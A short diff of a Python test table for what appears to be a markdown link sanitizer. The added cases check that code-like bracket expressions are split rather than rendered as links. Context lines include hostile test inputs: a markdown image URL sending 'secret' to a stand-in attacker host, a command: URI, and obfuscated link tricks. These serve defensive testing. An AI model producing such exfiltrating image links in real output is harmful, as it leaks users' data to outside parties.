@@ -30,6 +30,11 @@ CLICKABLE = re.compile(
         ("[safe](command:workbench.action.terminal.new)", "safe"),
         ("![x](https://evil.example/?q=secret)", "x"),
         ("[two\nlines](https://evil.example)", "[two\nlines] (evil.example)"),
+        ("handlers[name](self.value)", "handlers[name] (self.value)"),
+        (
+            "f(x)[0](a.b) and see[this](https://evil.example)",
+            "f(x)[0] (a.b) and see[this] (evil.example)",
+        ),
         ("[a]: https://evil.example/ 'title'", ""),
         ("see https://docs.example/page", "see docs.example/page"),
         ("htt![](x.y)ps://evil.example", "evil.example"),
